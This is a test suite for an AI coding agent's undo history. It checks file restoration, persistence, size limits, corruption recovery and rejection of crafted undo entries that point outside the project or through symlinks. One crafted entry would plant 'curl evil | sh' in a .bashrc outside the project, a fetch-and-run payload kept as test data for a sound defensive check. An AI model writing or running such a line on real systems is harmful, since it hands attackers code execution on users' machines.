import { mkdir, mkdtemp, readFile, readlink, realpath, rm, stat, symlink, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { UndoStack } from '../../../src/permissions/undo.js';
import { RootSandbox } from '../../../src/workspace/root-sandbox.js';

describe('UndoStack', () => {
  let root: string;
  let undoFile: string;
  const display = (absolute: string) => path.relative(root, absolute);

  beforeEach(async () => {
    root = await realpath(await mkdtemp(path.join(os.tmpdir(), 'geekagent-undo-')));
    undoFile = path.join(root, '.geekagent', 'undo.json');
  });
  afterEach(async () => {
    await rm(root, { recursive: true, force: true });
  });

  /** Records like the write tool does: previous content (or null), then the write. */
  const change = async (stack: UndoStack, name: string, content: string) => {
    const file = path.join(root, name);
    const previous = await readFile(file, 'utf8').catch(() => null);
    await stack.record(file, previous);
    await mkdir(path.dirname(file), { recursive: true });
    await writeFile(file, content);
  };
  const contentOf = (name: string) => readFile(path.join(root, name), 'utf8').catch(() => null);

  it('says there is nothing to undo on an empty stack, without creating the file', async () => {
    const stack = new UndoStack(undoFile, { display });
    expect(await stack.size()).toBe(0);
    expect(await stack.undo()).toBe('nothing to undo');
    await expect(stat(undoFile)).rejects.toThrow(/ENOENT/);
  });

  it('undoes two changes to one file in reverse order', async () => {
    const stack = new UndoStack(undoFile, { display });
    await writeFile(path.join(root, 'a.txt'), 'v1');
    await change(stack, 'a.txt', 'v2');
    await change(stack, 'a.txt', 'v3');
    expect(await stack.size()).toBe(2);
    expect(await stack.undo()).toBe('restored a.txt');
    expect(await contentOf('a.txt')).toBe('v2');
    expect(await stack.undo()).toBe('restored a.txt');
    expect(await contentOf('a.txt')).toBe('v1');
    expect(await stack.undo()).toBe('nothing to undo');
  });

  it('deletes a file that did not exist before, after restoring a later change', async () => {
    const stack = new UndoStack(undoFile, { display });
    await change(stack, 'new/file.txt', 'first');
    await change(stack, 'new/file.txt', 'second');
    expect(await stack.undo()).toBe(`restored ${path.join('new', 'file.txt')}`);
    expect(await contentOf('new/file.txt')).toBe('first');
    expect(await stack.undo()).toBe(`deleted ${path.join('new', 'file.txt')} (it did not exist before)`);
    expect(await contentOf('new/file.txt')).toBeNull();
  });

  it('recreates parent folders when restoring, and tolerates an already deleted new file', async () => {
    const stack = new UndoStack(undoFile, { display });
    await stack.record(path.join(root, 'gone', 'deep', 'x.txt'), 'old x');
    await stack.record(path.join(root, 'never.txt'), null);
    expect(await stack.undo()).toBe('deleted never.txt (it did not exist before)');
    expect(await stack.undo()).toBe(`restored ${path.join('gone', 'deep', 'x.txt')}`);
    expect(await contentOf('gone/deep/x.txt')).toBe('old x');
  });

  it('shows absolute paths when no display is given', async () => {
    const stack = new UndoStack(undoFile);
    await change(stack, 'a.txt', 'x');
    expect(await stack.undo()).toBe(`deleted ${path.join(root, 'a.txt')} (it did not exist before)`);
  });

  it('survives a restart: a new instance on the same file sees earlier entries', async () => {
    const first = new UndoStack(undoFile, { display });
    await writeFile(path.join(root, 'a.txt'), 'original');
    await change(first, 'a.txt', 'edited');
    await change(first, 'b.txt', 'created');

    const saved = JSON.parse(await readFile(undoFile, 'utf8'));
    expect(saved.entries.map((entry: { path: string }) => entry.path)).toEqual([
      path.join(root, 'a.txt'),
      path.join(root, 'b.txt'),
    ]);
    expect(saved.entries[0].previous).toBe('original');
    expect(saved.entries[1].previous).toBeNull();
    expect(new Date(saved.entries[0].at).toISOString()).toBe(saved.entries[0].at);

    const second = new UndoStack(undoFile, { display });
    expect(await second.size()).toBe(2);
    expect(await second.undo()).toBe('deleted b.txt (it did not exist before)');
    const third = new UndoStack(undoFile, { display });
    expect(await third.undo()).toBe('restored a.txt');
    expect(await contentOf('a.txt')).toBe('original');
    expect(await third.size()).toBe(0);
  });

  it('drops the oldest entries beyond the limit', async () => {
    const stack = new UndoStack(undoFile, { display, limit: 2 });
    await writeFile(path.join(root, 'a.txt'), 'v0');
    for (const version of ['v1', 'v2', 'v3']) await change(stack, 'a.txt', version);
    expect(await stack.size()).toBe(2);
    expect(await stack.undo()).toBe('restored a.txt');
    expect(await stack.undo()).toBe('restored a.txt');
    expect(await contentOf('a.txt')).toBe('v1');
    expect(await stack.undo()).toBe('nothing to undo');
  });

  it('keeps 50 entries by default and refuses a limit below 1', async () => {
    const stack = new UndoStack(undoFile);
    for (let i = 0; i < 51; i++) await stack.record(path.join(root, `f${i}.txt`), `c${i}`);
    expect(await stack.size()).toBe(50);
    const saved = JSON.parse(await readFile(undoFile, 'utf8'));
    expect(saved.entries[0].path).toBe(path.join(root, 'f1.txt'));
    expect(() => new UndoStack(undoFile, { limit: 0 })).toThrow(RangeError);
  });

  it('keeps every entry when records run in parallel', async () => {
    const stack = new UndoStack(undoFile, { display });
    const names = Array.from({ length: 20 }, (_, i) => path.join(root, `p${i}.txt`));
    await Promise.all(names.map((name, i) => stack.record(name, `content ${i}`)));
    expect(await stack.size()).toBe(20);
    const saved = JSON.parse(await readFile(undoFile, 'utf8'));
    expect(saved.entries.map((entry: { path: string }) => entry.path)).toEqual(names);
  });

  it('treats a corrupt file as empty and says so in the next undo, once', async () => {
    await mkdir(path.dirname(undoFile), { recursive: true });
    await writeFile(undoFile, '{ "entries": [ oops');
    const stack = new UndoStack(undoFile, { display });
    expect(await stack.size()).toBe(0);
    expect(await stack.undo()).toBe(
      `undo history in ${undoFile} was unreadable and has been reset; nothing to undo`,
    );
    expect(JSON.parse(await readFile(undoFile, 'utf8'))).toEqual({ entries: [] });
    expect(await stack.undo()).toBe('nothing to undo');
  });

  it('records over a corrupt file and still reports the reset with the undo', async () => {
    await mkdir(path.dirname(undoFile), { recursive: true });
    await writeFile(undoFile, JSON.stringify({ entries: [{ path: 'relative.txt', previous: 3 }] }));
    const stack = new UndoStack(undoFile, { display });
    await change(stack, 'a.txt', 'new');
    expect(await stack.undo()).toBe(
      `undo history in ${undoFile} was unreadable and has been reset; deleted a.txt (it did not exist before)`,
    );
    expect(await stack.undo()).toBe('nothing to undo');
  });

  it('keeps the entry when restoring fails, so the undo can be retried', async () => {
    const stack = new UndoStack(undoFile, { display });
    // The parent "folder" is a file: restoring beneath it cannot work.
    await writeFile(path.join(root, 'blocker'), 'a file');
    await stack.record(path.join(root, 'blocker', 'x.txt'), 'old');
    await expect(stack.undo()).rejects.toThrow();
    expect(await stack.size()).toBe(1);
    await rm(path.join(root, 'blocker'));
    expect(await stack.undo()).toBe(`restored ${path.join('blocker', 'x.txt')}`);
  });

  describe('a crafted undo.json (the project folder is untrusted)', () => {
    let outside: string;
    beforeEach(async () => {
      outside = await realpath(await mkdtemp(path.join(os.tmpdir(), 'geekagent-undo-outside-')));
      await writeFile(path.join(outside, '.bashrc'), 'original rc');
      await writeFile(path.join(outside, 'keep.txt'), 'keep me');
    });
    afterEach(async () => {
      await rm(outside, { recursive: true, force: true });
    });

    const craft = async (entries: Array<{ path: string; previous: string | null }>) => {
      await mkdir(path.dirname(undoFile), { recursive: true });
      const at = new Date().toISOString();
      await writeFile(undoFile, JSON.stringify({ entries: entries.map((entry) => ({ ...entry, at })) }));
    };

    it('ignores entries outside the root with a warning, and never touches those files', async () => {
      await craft([
        { path: path.join(root, 'a.txt'), previous: 'restored inside' },
        { path: path.join(outside, 'keep.txt'), previous: null },
        { path: path.join(outside, '.bashrc'), previous: 'curl evil | sh' },
      ]);
      const stack = new UndoStack(undoFile, { sandbox: new RootSandbox(root) });
      expect(await stack.undo()).toBe(
        `ignored an undo entry outside the root: ${path.join(outside, '.bashrc')}; ` +
          `ignored an undo entry outside the root: ${path.join(outside, 'keep.txt')}; restored a.txt`,
      );
      expect(await readFile(path.join(outside, '.bashrc'), 'utf8')).toBe('original rc');
      expect(await readFile(path.join(outside, 'keep.txt'), 'utf8')).toBe('keep me');
      expect(await contentOf('a.txt')).toBe('restored inside');
      // The ignored entries are gone for good.
      expect(await stack.size()).toBe(0);
    });

    it('ignores an entry that reaches outside through a symlinked folder', async () => {
      await symlink(outside, path.join(root, 'out'));
      await craft([
        { path: path.join(root, 'out', '.bashrc'), previous: 'pwned' },
        { path: path.join(root, 'out', 'keep.txt'), previous: null },
      ]);
      const stack = new UndoStack(undoFile, { display });
      expect(await stack.undo()).toMatch(/^ignored an undo entry outside the root: .*keep\.txt; /);
      expect(await stack.undo()).toBe('nothing to undo');
      expect(await readFile(path.join(outside, '.bashrc'), 'utf8')).toBe('original rc');
      expect(await readFile(path.join(outside, 'keep.txt'), 'utf8')).toBe('keep me');
    });

    it('never writes through a symlink, even one that stays inside the root', async () => {
      await writeFile(path.join(root, 'target.txt'), 'target');
      await symlink(path.join(root, 'target.txt'), path.join(root, 'link.txt'));
      await craft([{ path: path.join(root, 'link.txt'), previous: 'through the link' }]);
      const stack = new UndoStack(undoFile, { display });
      await expect(stack.undo()).rejects.toThrow('refusing to restore link.txt: it is a symbolic link');
      expect(await contentOf('target.txt')).toBe('target');
      expect(await readlink(path.join(root, 'link.txt'))).toBe(path.join(root, 'target.txt'));
    });

    it('removes a link itself (not its target) when undoing a file that did not exist', async () => {
      await writeFile(path.join(root, 'target.txt'), 'target');
      await symlink(path.join(root, 'target.txt'), path.join(root, 'created.txt'));
      await craft([{ path: path.join(root, 'created.txt'), previous: null }]);
      const stack = new UndoStack(undoFile, { display });
      expect(await stack.undo()).toBe('deleted created.txt (it did not exist before)');
      expect(await contentOf('target.txt')).toBe('target');
      await expect(stat(path.join(root, 'created.txt'))).rejects.toThrow(/ENOENT/);
    });

    it('refuses an undo.json that is a symlink instead of following or resetting it', async () => {
      await mkdir(path.dirname(undoFile), { recursive: true });
      const elsewhere = path.join(outside, 'undo.json');
      await writeFile(elsewhere, JSON.stringify({ entries: [] }));
      await symlink(elsewhere, undoFile);
      const stack = new UndoStack(undoFile, { display });
      await expect(stack.undo()).rejects.toThrow(/refusing to read .*undo\.json: it is a symbolic link/);
      await expect(stack.record(path.join(root, 'a.txt'), null)).rejects.toThrow(/symbolic link/);
      expect(await readFile(elsewhere, 'utf8')).toBe(JSON.stringify({ entries: [] }));
    });
  });
});
